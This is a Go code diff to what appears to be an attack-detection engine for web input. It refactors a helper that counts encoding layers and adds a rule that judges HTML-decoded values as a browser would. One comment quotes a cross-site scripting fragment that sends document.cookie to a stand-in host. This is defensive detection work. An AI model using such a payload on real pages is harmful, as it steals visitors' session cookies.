@@ -182,7 +182,7 @@ func (e *Engine) Inspect(v event.Value, dst []Signal) []Signal {
 			return in2.dst
 		}
 	}
-	if in.mask.has(bPercent) && urlLayers(v.Decoded) == 0 && len(text) < 64<<10 {
+	if in.mask.has(bPercent) && layers(v.Decoded, "url") == 0 && len(text) < 64<<10 {
 		// Percent-encoding the decoder left in place (a raw body with no
 		// form content type): the application may still decode it.
 		if dec, ok := percentDecode(sc.plus[:0], text); ok {
@@ -193,7 +193,7 @@ func (e *Engine) Inspect(v event.Value, dst []Signal) []Signal {
 			return in2.dst
 		}
 	}
-	if in.mask.has(bPlus) && !in.mask.has(bSpace) && urlLayers(v.Decoded) >= 2 {
+	if in.mask.has(bPlus) && !in.mask.has(bSpace) && layers(v.Decoded, "url") >= 2 {
 		// A value URL-encoded twice keeps '+' for spaces after the second
 		// decoding; an application that decodes once more with form rules
 		// sees spaces. Judge that reading too.
@@ -280,10 +280,12 @@ func percentDecode(dst []byte, s string) ([]byte, bool) {
 	return dst, ok
 }
 
-func urlLayers(dec []string) int {
+// layers counts the layers of encoding enc (decode's names: "url",
+// "html", "base64") removed to reach a value's text.
+func layers(dec []string, enc string) int {
 	n := 0
 	for _, d := range dec {
-		if d == "url" {
+		if d == enc {
 			n++
 		}
 	}
@@ -344,6 +346,13 @@ func (in *input) judge() {
 		// onerror="fetch('//x/'+document.cookie)" fingerprint as SQL,
 		// but the sink they attack is the page.
 		sequence = htmlFirst[:]
+	}
+	if layers(in.v.Decoded, "html") > 0 {
+		// Character references are decoded by a browser rendering the
+		// value, by no database, shell, file system or template engine:
+		// that reading is judged as the page would read it. (An XML body's
+		// references are decoded by its parser, not by this reading.)
+		sequence = browserOnly[:]
 	}
 	if len(in.text) >= in.e.splitMin && splitWorthwhile() {
 		in.judgeConcurrently(sequence)
@@ -454,3 +463,4 @@ func sinkOf(v *event.Value) sink {
 	}
 	return sinkNone
 }
+
